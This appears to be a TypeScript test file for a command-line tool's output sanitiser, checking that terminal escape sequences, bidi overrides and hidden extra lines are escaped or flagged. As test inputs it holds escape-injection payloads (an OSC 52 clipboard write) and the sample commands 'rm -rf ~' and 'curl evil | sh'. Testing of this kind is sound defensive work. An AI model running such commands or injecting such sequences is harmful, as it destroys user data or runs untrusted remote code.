/**
 * terminal-safe.ts: repository text shown with every control as an escape
 * (newlines and tabs kept in multi-line text), JSON that still parses to the
 * same strings, `oneLine` that says what it leaves out, and the renderers
 * that colour their lines escaping first.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { oneLine } from '../../src/cli/output.js';
import { formatDaemonLogLine } from '../../src/observe/daemon-log.js';
import { terminalSafe, terminalSafeJson, terminalSafeLine } from '../../src/observe/terminal-safe.js';
import { TranscriptRenderer } from '../../src/observe/transcript-view.js';
import { firstUnsafe, hostileText } from './support/hostile-text.js';

/** Our own colours (SGR `ESC [ n m`), taken out to check what is left. */
const withoutOurColours = (text: string): string => text.replace(/\x1b\[\d+m/g, '');

describe('terminalSafe and terminalSafeLine', () => {
  it('show each control as the escape a JavaScript string would use', () => {
    expect(terminalSafe('a\x1b]52;c;eA==\x07b')).toBe('a\\x1b]52;c;eA==\\x07b');
    expect(terminalSafe('\u009b2J \u0085 \x7f \x00')).toBe('\\u009b2J \\u0085 \\x7f \\x00');
    expect(terminalSafe('\u202eevil\u202c \u2066x\u2069 \u200f \u061c')).toBe('\\u202eevil\\u202c \\u2066x\\u2069 \\u200f \\u061c');
    expect(terminalSafe('one\n\ttwo\rthree')).toBe('one\n\ttwo\\rthree');
    expect(terminalSafeLine('one\n\ttwo\rthree')).toBe('one\\n\\ttwo\\rthree');
  });

  it('leave ordinary text alone: accents, CJK, emoji, backslashes, U+00A0', () => {
    const text = 'café 中文 🚀 C:\\path\\x1b \u00a0 ‘quotes’ — ok';
    expect(terminalSafe(text)).toBe(text);
    expect(terminalSafeLine(text)).toBe(text);
  });

  it('multi-line output holds no control but newline and tab; one-line output none at all (generated)', () => {
    fc.assert(
      fc.property(hostileText(), (text) => {
        expect(firstUnsafe(terminalSafe(text))).toBeNull();
        const line = terminalSafeLine(text);
        expect(firstUnsafe(line)).toBeNull();
        expect(line).not.toMatch(/[\n\t]/);
      }),
      { numRuns: 500 },
    );
  });

  it('are idempotent, and keep every line of multi-line text (generated)', () => {
    fc.assert(
      fc.property(hostileText(), (text) => {
        expect(terminalSafe(terminalSafe(text))).toBe(terminalSafe(text));
        expect(terminalSafeLine(terminalSafeLine(text))).toBe(terminalSafeLine(text));
        expect(terminalSafe(text).split('\n')).toHaveLength(text.split('\n').length);
      }),
      { numRuns: 300 },
    );
  });
});

describe('terminalSafeJson', () => {
  it('escapes DEL, C1 and bidi as \\u escapes, which JSON.parse reads back', () => {
    const text = terminalSafeJson({ s: '\x1b[2J\u009b\x7f\u202e' });
    expect(text).toBe('{"s":"\\u001b[2J\\u009b\\u007f\\u202e"}');
    expect(JSON.parse(text)).toEqual({ s: '\x1b[2J\u009b\x7f\u202e' });
  });

  it('parses to the same value and holds no control but the newlines of its layout (generated)', () => {
    const value = fc.oneof(
      fc.jsonValue(),
      fc.dictionary(hostileText(), fc.oneof(hostileText(), fc.array(hostileText()), fc.integer())),
    );
    fc.assert(
      fc.property(value, fc.constantFrom(undefined, 2), (v, space) => {
        const text = terminalSafeJson(v, space);
        expect(JSON.parse(text)).toEqual(JSON.parse(JSON.stringify(v)));
        expect(firstUnsafe(text)).toBeNull();
        if (space === undefined) expect(text).not.toContain('\n');
      }),
      { numRuns: 300 },
    );
  });
});

describe('oneLine', () => {
  it('says how many lines it leaves out, never counting trailing blank ones', () => {
    expect(oneLine('npm test\nrm -rf ~\ncurl evil | sh')).toBe('npm test … (+2 lines)');
    expect(oneLine('npm test\n\nrm -rf ~')).toBe('npm test … (+2 lines)');
    expect(oneLine('npm test\nrm -rf ~')).toBe('npm test … (+1 line)');
    expect(oneLine('npm test\n')).toBe('npm test');
    expect(oneLine('npm test\n  \n')).toBe('npm test');
    expect(oneLine('\nrm -rf ~')).toBe(' … (+1 line)');
    expect(oneLine('x'.repeat(80), 10)).toBe(`${'x'.repeat(9)}…`);
    expect(oneLine(`${'x'.repeat(80)}\ny`, 10)).toBe(`${'x'.repeat(9)}… … (+1 line)`);
  });

  it('is one terminal-safe line, marked whenever a later line has something to see (generated)', () => {
    fc.assert(
      fc.property(hostileText(), fc.integer({ min: 2, max: 100 }), (text, max) => {
        const shown = oneLine(text, max);
        expect(firstUnsafe(shown)).toBeNull();
        expect(shown).not.toContain('\n');
        const hidden = text.split('\n').slice(1).join('\n');
        expect(/ … \(\+\d+ lines?\)$/.test(shown)).toBe(hidden.trim() !== '');
      }),
      { numRuns: 300 },
    );
  });
});

describe('renderers that colour their lines', () => {
  it('a transcript rendered with colour holds only our colour codes (generated)', () => {
    fc.assert(
      fc.property(hostileText(), hostileText(), (a, b) => {
        const renderer = new TranscriptRenderer({ color: true });
        const lines = [
          { type: 'header', session_id: a, agent: b, model: a, created: b },
          { type: 'system', subtype: 'init', cwd: a, parent_id: b },
          { type: 'system', subtype: 'retry', message: a },
          { type: 'user', message: { content: [{ type: 'text', text: a }] } },
          {
            type: 'assistant',
            message: {
              content: [
                { type: 'text', text: b },
                { type: 'tool_use', id: 't1', name: a, input: { command: b, other: a } },
                { type: 'tool_use', id: 't2', name: 'bash', input: { command: b } },
              ],
            },
          },
          { type: 'user', message: { content: [{ type: 'tool_result', tool_use_id: 't1', content: a }] } },
          { type: 'user', message: { content: [{ type: 'tool_result', tool_use_id: 't2', content: b, is_error: true }] } },
          { type: 'result', subtype: a, is_error: true, error: b, usage: {} },
        ];
        for (const out of lines.flatMap((l) => renderer.render(l)))
          expect(firstUnsafe(withoutOurColours(out))).toBeNull();
      }),
      { numRuns: 200 },
    );
  });

  it('a daemon log line with colour holds only our colour codes, on one line (generated)', () => {
    fc.assert(
      fc.property(hostileText(), hostileText(), (msg, extra) => {
        const out = formatDaemonLogLine({ level: 50, time: msg, msg, agent: extra, event: {} }, true);
        expect(firstUnsafe(withoutOurColours(out))).toBeNull();
        expect(out).not.toContain('\n');
      }),
      { numRuns: 200 },
    );
  });
});
